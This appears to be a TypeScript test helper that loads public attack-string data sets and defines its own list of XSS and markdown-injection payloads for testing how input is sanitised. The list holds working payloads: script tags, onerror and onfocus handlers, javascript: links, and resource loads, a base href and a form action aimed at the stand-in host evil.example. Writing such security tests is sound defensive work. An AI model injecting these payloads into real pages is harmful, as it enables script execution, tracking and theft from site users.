import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { sized } from './security-size.js';

const FOLDER = resolve(
  process.env.DATA_SETS ?? resolve(import.meta.dirname, '../../../shared/data'),
  'attack-strings',
);

/** A public set beside the repository; tests that want it whole are skipped loudly where it is not. */
const dataSet = (name: string) => {
  const file = resolve(FOLDER, name);
  const present = existsSync(file);
  if (!present) console.warn(`SKIPPED: the public attack strings are not at ${file} (set DATA_SETS).`);
  return { file, present };
};
const PAYLOADS = dataSet('xss-payloads-dev.txt.gz');

/** Strings that break the handling of input. */
export const NAUGHTY_STRINGS = dataSet('blns.json');

/** Ways in which markup becomes a program, ours; the data sets hold thousands more. */
export const OWN_ATTACKS: readonly string[] = [
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '</script><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
  ],
  ...[
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe srcdoc="<script>alert(1)</script>">',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVa\tScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
  ],
  ...[
    '![x](https://evil.example/track.gif)',
    '![x](//evil.example/track.gif)',
    '<img src="https://evil.example/x.png">',
    '<video poster=//evil.example/x>',
    '<link rel=stylesheet href=//evil.example>',
  ],
  ...[
    '<style>@import "//evil.example"</style>',
    '<div style="background:url(//evil.example)">',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<form action=//evil.example><input name=q>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<textarea autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '"><img src=x onerror=alert(1)>',
  ],
  ...[
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '{{constructor.constructor("alert(1)")()}}',
    '<!--><script>alert(1)</script>-->',
    '<x onclick=alert(1)>',
    '`<script>`',
    '```html\n<script>alert(1)</script>\n```',
  ],
  ...[
    '<https://evil.example/"onmouseover="alert(1)>',
    '[x]: javascript:alert(1)\n[x]',
    '[a](<javascript:alert(1)>)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\u0000<script\u0000>alert(1)</script>',
    '<object data=//evil.example>',
    '<embed src=//evil.example>',
  ],
];

/**
 * @param push how many of the public strings a push tries beside ours; a full run tries all
 * @returns ours, and those of the public ones that are there
 */
export function attackStrings(push: number): string[] {
  if (!PAYLOADS.present) return [...OWN_ATTACKS];
  const lines = gunzipSync(readFileSync(PAYLOADS.file)).toString().split('\n').filter(Boolean);
  const step = Math.ceil(lines.length / sized(push, lines.length));
  return [...OWN_ATTACKS, ...lines.filter((_, index) => index % step === 0)];
}

/** @returns the public strings; call it only where they are present */
export const readNaughtyStrings = (): string[] =>
  JSON.parse(readFileSync(NAUGHTY_STRINGS.file, 'utf8')) as string[];
